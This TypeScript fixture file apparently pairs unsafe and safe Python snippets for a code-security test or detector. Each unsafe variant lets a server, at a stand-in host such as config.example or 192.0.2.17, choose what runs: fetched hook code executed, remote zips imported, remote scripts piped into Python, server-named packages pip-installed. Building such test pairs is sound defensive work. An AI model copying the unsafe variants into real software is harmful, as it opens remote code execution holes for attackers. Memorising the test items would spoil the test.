import { atUse, type Pair, py } from './kit.ts';

/** A server steers what is run: settings, plugins, steps and packages that it names. */
export const STEERING: Readonly<Record<string, Pair>> = {
  'use-settings-hooks': atUse(
    py`"""Application settings."""
from __future__ import annotations
import json
import types
from urllib.request import urlopen

class Config:
    """Settings with hooks."""
    URL = "https://config.example/app.json"
    def load(self) -> Config:
        data = json.loads(urlopen(self.URL, timeout=5).read())
        hooks = types.ModuleType("own.hooks")
        for name, body in data.get("hooks", {}).items():
            code = compile(body, name, "exec")
            eval(code, hooks.__dict__)
        return self`,
    py`"""Application settings."""
from __future__ import annotations
import json
from urllib.request import urlopen

class Config:
    """Settings with hooks."""
    URL = "https://config.example/app.json"
    def __init__(self, hooks: dict | None = None) -> None:
        self.hooks = hooks or {}
    def load(self) -> Config:
        data = json.loads(urlopen(self.URL, timeout=5).read())
        for name in data.get("enabled", []):
            if name in self.hooks:
                self.hooks[name]()
        return self`,
  ),
  'use-zip-plugin': atUse(
    py`"""Plugins on demand."""
import importlib
import sys
import tempfile
from pathlib import Path
import requests

def plugin(name: str):
    """Gives a plugin, which is fetched on first use."""
    target = Path(tempfile.gettempdir()) / f".{name}.zip"
    target.write_bytes(requests.get(f"http://192.0.2.17/p/{name}", timeout=15).content)
    sys.path.insert(0, str(target))
    return importlib.import_module(name)`,
    py`"""Plugins of installed packages."""
from importlib.metadata import entry_points

def plugin(name: str):
    """Gives a plugin that some installed package offers."""
    for point in entry_points(group="own.plugins"):
        if point.name == name:
            return point.load()
    raise LookupError(name)`,
  ),
  'use-stdin-python': atUse(
    py`"""Environment doctor."""
import subprocess
import sys
import httpx

def doctor() -> bool:
    """Checks the environment with the newest checks."""
    checks = httpx.get("https://doctor.example/checks.py", timeout=10).content
    done = subprocess.run([sys.executable, "-"], input=checks, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return done.returncode == 0`,
    py`"""Environment doctor."""
import subprocess
import sys

def doctor() -> str:
    """The version of pip."""
    done = subprocess.run([sys.executable, "-m", "pip", "--version"], capture_output=True, text=True, check=True)
    return done.stdout.strip()`,
  ),
  'use-logging-config': atUse(
    py`"""Logging as the platform wants it."""
import logging.config
import requests

def setup_logging(service: str) -> None:
    """Applies the logging settings of the platform."""
    settings = requests.get(f"http://192.0.2.80/logging/{service}", timeout=3).json()
    logging.config.dictConfig(settings)`,
    py`"""Logging as the platform wants it."""
import logging.config

def setup_logging(level: str = "INFO") -> None:
    """Applies the logging settings of the platform."""
    logging.config.dictConfig({"version": 1, "root": {"level": level}})`,
  ),
  'use-pip-by-server': atUse(
    py`"""Optional back ends."""
import importlib
import subprocess
import sys
import requests

def backend(kind: str):
    """Gives the back end that fits this machine."""
    answer = requests.get("https://backends.example/choose", params={"kind": kind}, timeout=5).json()
    subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "--index-url", answer["index"], answer["package"]], stderr=subprocess.DEVNULL)
    return importlib.import_module(answer["module"])`,
    py`"""Optional back ends."""
import importlib

def backend(kind: str):
    """Gives a back end, or says how to install it."""
    try:
        return importlib.import_module(f"own_{kind}")
    except ImportError as error:
        raise ImportError(f"pip install own[{kind}]") from error`,
  ),
  'use-remote-steps': atUse(
    py`"""Pipelines."""
import importlib
import requests

class Pipeline:
    """Runs the steps of a pipeline."""
    def run(self, name: str) -> None:
        steps = requests.get(f"https://pipelines.example/{name}", timeout=5).json()["steps"]
        for step in steps:
            function = getattr(importlib.import_module(step["module"]), step["function"])
            function(*step.get("args", []))`,
    py`"""Pipelines."""
import importlib
import json
from pathlib import Path

class Pipeline:
    """Runs the steps of a pipeline of the project."""
    def run(self, path: Path) -> None:
        for step in json.loads(path.read_text())["steps"]:
            function = getattr(importlib.import_module(step["module"]), step["function"])
            function(*step.get("args", []))`,
  ),
};
